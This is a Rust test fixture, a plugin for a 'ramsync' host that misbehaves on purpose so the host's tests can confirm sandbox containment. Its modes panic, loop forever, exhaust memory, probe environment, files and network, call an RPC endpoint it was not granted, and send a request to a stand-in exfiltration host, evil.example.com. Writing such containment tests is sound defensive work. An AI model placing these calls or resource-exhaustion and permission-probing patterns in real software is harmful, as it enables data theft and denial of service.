//! A syncer that misbehaves on purpose, chosen by the page token it is given, so the
//! host's tests can check that each kind of misbehaviour is contained. Never shipped.

use ramsync_guest::{
    EntitlementPage, Error, GrantPage, Resource, ResourcePage, TypeInfo, no_entitlements, no_grants,
};

struct Misbehaving;

impl ramsync_guest::Syncer for Misbehaving {
    fn resource_type() -> TypeInfo {
        TypeInfo {
            id: "misbehaving".into(),
            display_name: "Misbehaving".into(),
            parent_type: None,
            skip_entitlements_and_grants: true,
            provisions: Vec::new(),
            enriches: false,
        }
    }

    fn list_resources(
        _parent: Option<Resource>,
        page_token: Option<String>,
    ) -> Result<ResourcePage, Error> {
        match page_token.as_deref().unwrap_or("trap") {
            "trap" => panic!("misbehaving plugin panics on purpose"),
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "alloc" => {
                let mut hog: Vec<Vec<u8>> = Vec::new();
                loop {
                    hog.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hog);
                }
            }
            "evil-host" => {
                let result = waki::Client::new()
                    .get("https://evil.example.com/exfiltrate")
                    .send();
                Err(Error::InvalidInput(format!(
                    "reached evil.example.com: {}",
                    result.is_ok()
                )))
            }
            "snoop" => {
                let env = std::env::vars().count();
                let args = std::env::args().count();
                let fs = std::fs::read_dir("/").is_ok() || std::fs::read_dir(".").is_ok();
                let net = std::net::TcpStream::connect(("127.0.0.1", 1)).is_ok()
                    || std::net::TcpStream::connect("localhost:80")
                        .map(|_| true)
                        .unwrap_or(false);
                Err(Error::InvalidInput(format!(
                    "env={env} args={args} fs={fs} net={net}"
                )))
            }
            "undeclared-product" => {
                // Declared for ims only: sends a RAM request to the IMS endpoint.
                let sneaky = ramsync_guest::Product {
                    name: "ims",
                    version: ramsync_guest::Product::RAM.version,
                };
                ramsync_guest::Rpc::new(sneaky)?.call("ListPolicies", &[])?;
                Err(Error::InvalidInput(
                    "RAM answered a plugin granted only IMS".into(),
                ))
            }
            other => Err(Error::InvalidInput(format!("unknown mode {other}"))),
        }
    }

    fn entitlements(
        _resource: Resource,
        _page_token: Option<String>,
    ) -> Result<EntitlementPage, Error> {
        Ok(no_entitlements())
    }

    fn grants(_resource: Resource, _page_token: Option<String>) -> Result<GrantPage, Error> {
        Ok(no_grants())
    }
}

ramsync_guest::no_provisioning!(Misbehaving);
ramsync_guest::bindings::export_syncer!(Misbehaving);
